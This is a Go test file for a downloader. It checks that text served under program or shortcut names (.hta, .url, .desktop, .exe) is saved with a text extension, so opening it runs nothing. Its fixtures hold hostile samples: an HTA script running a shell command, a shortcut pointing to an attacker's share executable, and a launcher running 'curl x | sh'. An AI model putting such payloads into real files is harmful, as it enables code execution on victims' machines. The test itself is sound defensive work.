package downloader

import (
	"os"
	"path/filepath"
	"testing"

	"haul/downloader/downloadtest"
)

// TestTextNamedAsAProgramIsSavedAsText: a site's text under the name of a
// program or a shortcut (an HTML application, an Internet shortcut, a
// desktop launcher, a program) keeps that name with the text's extension
// after it, so opening the file shows the text and runs nothing; a run
// later finds it saved. A real program and ordinary text keep their names.
func TestTextNamedAsAProgramIsSavedAsText(t *testing.T) {
	tests := []struct {
		path, body, contentType, want string
	}{
		{"/update.hta", `<html><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>`, "application/hta", "update.hta.html"},
		{"/bank.url", "[InternetShortcut]\r\nURL=file://attacker/share/x.exe\r\n", "text/plain", "bank.url.txt"},
		{"/run.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n", "application/x-desktop", "run.desktop.txt"},
		{"/setup.exe", "this is not a program at all", "application/octet-stream", "setup.exe.txt"},
		{"/tool.exe", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", "application/octet-stream", "tool.exe"},
		{"/notes.txt", "just notes", "text/plain", "notes.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			srv := newServer(t)
			srv.Handle(tt.path, []byte(tt.body), downloadtest.Header("Content-Type", tt.contentType))
			dir := t.TempDir()
			for run := range 2 {
				m := New(testOptions(dir))
				addAll(t, m, srv.URL(tt.path))
				s := runAll(t, m)
				if s.Done+s.Skipped != 1 {
					t.Fatalf("run %d: %+v", run+1, s)
				}
			}
			entries, _ := os.ReadDir(dir)
			if len(entries) != 1 || entries[0].Name() != tt.want {
				t.Fatalf("the folder holds %v, want only %s", entries, tt.want)
			}
			if got, _ := os.ReadFile(filepath.Join(dir, tt.want)); string(got) != tt.body {
				t.Errorf("%s holds %q", tt.want, got)
			}
		})
	}
}
